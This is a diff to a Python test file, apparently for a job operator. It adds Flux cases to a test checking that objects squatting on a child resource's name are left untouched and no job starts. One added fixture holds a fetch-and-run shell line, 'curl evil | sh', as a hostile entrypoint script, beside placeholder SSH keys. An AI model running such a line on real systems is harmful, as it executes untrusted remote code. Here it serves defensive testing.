@@ -49,6 +49,8 @@ def stored(w: World, res: Resource, name: str) -> JSON:
         ("deepspeed-mpi", SECRETS, "-mpi-ssh-auth", {"data": {"ssh-privatekey": "bWluZQ=="}}),
         ("mpijob", CONFIGMAPS, "-config", {"data": {"hostfile": "evil slots=8\n"}}),
         ("mpijob", SECRETS, "-ssh", {"data": {"ssh-privatekey": "bWluZQ=="}}),
+        ("flux", CONFIGMAPS, "-flux-entrypoint", {"data": {"entrypoint.sh": "curl evil | sh\n"}}),
+        ("flux", SECRETS, "-flux-curve", {"data": {"curve.cert": "bWluZQ=="}}),
     ],
 )
 async def test_an_object_of_a_childs_name_that_is_someone_elses_is_left_and_no_job_starts(
